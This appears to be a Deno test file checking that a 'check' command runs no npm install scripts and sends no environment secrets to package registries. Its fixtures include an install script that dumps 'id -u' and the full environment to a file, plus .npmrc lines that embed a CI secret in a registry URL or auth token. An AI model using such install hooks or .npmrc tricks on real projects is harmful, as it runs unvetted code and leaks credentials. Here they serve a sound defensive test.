// A check reads what nobody has looked at yet: it must run nothing of it, give nothing away, and
// reach nothing but registries and import hosts that the operator allows.
import assert from "node:assert/strict";
import { join } from "node:path";
import { makeDirectory, runCli, writeFiles } from "./harness.ts";

const REGISTRY = "http://server.test/npm/";

/** Has the pretend registry offer a package whose install script writes to a file of the host. */
async function offer(name: string, evidence: string): Promise<void> {
  const install = `id -u >${evidence}; env >>${evidence}`;
  const body = JSON.stringify({ name, manifest: { scripts: { install } } });
  await (await fetch("http://server.test/packages", { method: "POST", body })).body?.cancel();
}

async function asked(): Promise<string> {
  return await (await fetch("http://server.test/asked")).text();
}

/** Ways by which a folder asks Deno for a `node_modules` directory, and so for install scripts. */
const WAYS: readonly (readonly [name: string, config: Readonly<Record<string, unknown>>])[] = [
  ["auto", { nodeModulesDir: "auto", allowScripts: true }],
  ["vendor", { vendor: true, allowScripts: true }],
  ["listed", { nodeModulesDir: "auto", allowScripts: ["npm:way-listed"] }],
];

Deno.test("check: no script of a package runs, whatever the folder's configuration asks for", async () => {
  const place = await makeDirectory();
  try {
    const evidence = join(place, "evidence");
    for (const [way, config] of WAYS) {
      await offer(`way-${way}`, evidence);
      await writeFiles(place, {
        [`${way}/index.ts`]:
          `import a from "npm:way-${way}";\nDeno.serve(() => new Response(a));\n`,
        [`${way}/deno.json`]: JSON.stringify(config),
        [`${way}/.npmrc`]: `registry=${REGISTRY}\n`,
      });
      const env = { DDSRV_REGISTRIES: "server.test:80", CI_SECRET: "s3cret" };
      const { code, stderr } = await runCli(["check", join(place, way)], env);
      assert.equal(code, 0, stderr);
      await assert.rejects(Deno.stat(evidence), Deno.errors.NotFound, way);
      await assert.rejects(Deno.stat(join(place, way, "node_modules")), way);
    }
    // The same folder and Deno by itself: that the script runs there is what makes this a test.
    await new Deno.Command(Deno.execPath(), {
      args: ["check", "--quiet", "index.ts"],
      cwd: join(place, "auto"),
      env: { DENO_DIR: join(place, "deno") },
    }).output();
    assert.match(await Deno.readTextFile(evidence), /^0\n/);
  } finally {
    await Deno.remove(place, { recursive: true });
  }
});

Deno.test("check: a registry learns nothing of the caller's environment", async () => {
  const place = await makeDirectory();
  try {
    await offer("teller", join(place, "evidence"));
    const env = { DDSRV_REGISTRIES: "server.test:80", CI_SECRET: "s3cret-of-the-caller" };
    const lines = [
      "registry=http://server.test/npm/${CI_SECRET}/\n",
      `registry=${REGISTRY}\n//server.test/npm/:_authToken=\${CI_SECRET}\n`,
      `registry=${REGISTRY}\n//server.test/npm/:_authToken=\${CI_SECRET?}\n`,
    ];
    for (const [index, npmrc] of lines.entries()) {
      await writeFiles(place, {
        [`teller-${index}/index.ts`]:
          'import a from "npm:teller";\nDeno.serve(() => new Response(a));\n',
        [`teller-${index}/deno.json`]: "{}",
        [`teller-${index}/.npmrc`]: npmrc,
      });
      await runCli(["check", join(place, `teller-${index}`)], env);
    }
    assert.doesNotMatch(await asked(), /s3cret-of-the-caller/);
  } finally {
    await Deno.remove(place, { recursive: true });
  }
});
